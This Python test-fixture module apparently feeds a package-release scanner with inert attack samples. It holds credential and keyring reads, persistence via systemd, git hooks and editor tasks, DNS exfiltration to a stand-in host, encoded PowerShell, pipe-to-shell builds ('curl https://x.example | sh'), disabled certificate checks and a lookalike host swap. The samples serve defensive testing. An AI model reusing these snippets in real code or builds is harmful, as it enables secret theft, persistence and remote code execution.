"""Inert imitations of attacks that were tried on finished rules: paths put together, detours, tools of others, builds.

Hosts end in `.example`, and nothing of it is ever run.
"""

from __future__ import annotations

from support.attacks import Attack
from support.releases import CORE_TEXT, SOURCES, TextRelease

_CODE = (
    ("joined-credentials", "secret-file", "def go(home):\n    return (home / '.aws' / 'credentials').read_text()\n"),
    (
        "joined-service", "persistence",
        "import os\n\n\ndef go(home):\n    return os.path.join(home, '.config', 'systemd', 'user', 'x.service')\n",
    ),
    ("git-hook", "persistence", "def go(top):\n    return top.joinpath('.git', 'hooks', 'pre-commit')\n"),
    ("password-store", "secret-store", "import keyring\n\n\ndef go():\n    return keyring.get_password('a', 'b')\n"),
    ("clipboard-of-a-window", "code-captures", "def go(window):\n    return window.clipboard_get()\n"),
    (
        "lookup-program", "code-network-program",
        "import subprocess\n\n\ndef go(data):\n    subprocess.getoutput('nslookup ' + data + '.leak.example')\n",
    ),
    (
        "hidden-shell", "code-network-program",
        "import subprocess\n\nLINE = ['powershell.exe', '-EncodedCommand', 'AA']\nsubprocess.Popen(LINE)\n",
    ),
    ("other-installer", "code-installs", "import os\n\n\ndef go():\n    os.system('npx -y helper')\n"),
    (
        "worm-publishes", "code-publishes",
        "import subprocess\n\n\ndef go():\n    subprocess.run(['twine', 'upload', 'dist/x'])\n",
    ),
    (
        "told-what-to-run", "code-remote-command",
        "import subprocess\n\n\ndef go(link):\n    word = link.recv(100).decode()\n    subprocess.getoutput(word)\n",
    ),
    ("module-of-a-module", "import-process", "import glob\n\nglob.os.system('true')\n"),
    ("out-of-a-table", "import-process", "import os\n\nTABLE = {'a': os.system}\nTABLE['a']('true')\n"),
    ("out-of-a-class", "import-process", "import os\n\n\nclass Box:\n    run = os.system\n\n\nBox.run('true')\n"),
    ("code-exchanged", "code-memory", "def go(f):\n    f.__code__ = f.__code__.replace(co_code=b'')\n"),
    (
        "array-of-objects", "code-deserialise",
        "import numpy as np\n\n\ndef go(path):\n    return np.load(path, allow_pickle=True)\n",
    ),
    (
        "library-looked-up", "code-libc",
        "import ctypes\nimport ctypes.util\n\nctypes.CDLL(ctypes.util.find_library('c')).system(b'true')\n",
    ),
    ("certificate-unchecked", "code-unverified", "def go(session, url):\n    return session.get(url, verify=False)\n"),
    ("asked-for-by-a-method", "import-process", "import os\n\nos.__getattribute__('sys' + 'tem')('true')\n"),
    ("windows-shell", "import-process", "import ctypes\n\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'calc')\n"),
    ("module-exchanged", "import-patch", "import sys\n\nsys.modules['ssl'] = object()\n"),
    ("library-by-cffi", "code-libc", "import cffi\n\ncffi.FFI().dlopen(None).system(b'true')\n"),
    ("wallet-of-a-browser", "secret-file", "WALLETS = ['nkbihfbeogaeaoehlefnkodbefgpgknn']\n"),
    ("editor-task", "persistence", "def go(top):\n    return top / '.vscode' / 'tasks.json'\n"),
    ("wide-letters", "text-homoglyph", "\uff53\uff59\uff53 = 1\n"),
    (
        "all-certificates-unchecked", "code-unverified",
        "import ssl\n\nssl._create_default_https_context = ssl._create_unverified_context\n",
    ),
)  # fmt: skip
_BUILD = (
    (
        "cmake-pipes", "build-network", "CMakeLists.txt",
        'execute_process(COMMAND sh -c "curl https://x.example | sh")\n',
    ),
    ("meson-shell", "build-process", "meson.build", "project('inert')\nrun_command('sh', '-c', 'true')\n"),
    ("cargo-fetches", "build-process", "build.rs", 'fn main() { Command::new("curl").spawn().unwrap(); }\n'),
    ("m4-decodes", "build-process", "m4/host.m4", "AC_DEFUN([host], [cat $srcdir/x | base64 -d | $SHELL])\n"),
    (
        "backend-from-a-url", "requires-url", "pyproject.toml",
        str(SOURCES["pyproject.toml"]).replace("setuptools>=70", "setuptools @ https://x.example/setuptools.whl"),
    ),
    (
        "fetched-by-setup", "build-requires-new", "setup.py",
        "from setuptools import setup\n\nsetup(setup_requires=['helper'], dependency_links=['https://x.example'])\n",
    ),
    ("another-index", "build-requires-new", "setup.cfg", "[easy_install]\nindex_url = https://x.example/simple\n"),
)  # fmt: skip
_NAMED = f"{CORE_TEXT}\n\nBASE = 'https://api.inert-service.example/v1'\n"


def _in_core(name: str, rule: str, text: str) -> Attack:
    release = TextRelease("1.1", both={"inert/core.py": f"{CORE_TEXT}\n\n{text}"})
    return Attack(name, release, (rule,), ("inert/core.py",))


LATER: tuple[Attack, ...] = (
    *(_in_core(*one) for one in _CODE),
    *(Attack(name, TextRelease("1.1", sdist={path: text}), (rule,), (path,)) for name, rule, path, text in _BUILD),
    Attack(
        "exchanged-host",
        TextRelease("1.1", both={"inert/core.py": _NAMED.replace("-service.", "-servlce.")}),
        ("host-lookalike",),
        ("inert/core.py",),
        TextRelease("1.0", both={"inert/core.py": _NAMED}),
    ),
    Attack(
        "globbed-by-a-variable",
        TextRelease(
            "1.1",
            sdist={
                "m4/host.m4": "grep -l '####' $srcdir/tests/fixtures/*.dat\n",
                "tests/fixtures/three.dat": bytes(range(255, 0, -1)) * 4,
            },
        ),
        ("data-used-early",),
        ("m4/host.m4", "tests/fixtures/three.dat"),
    ),
)
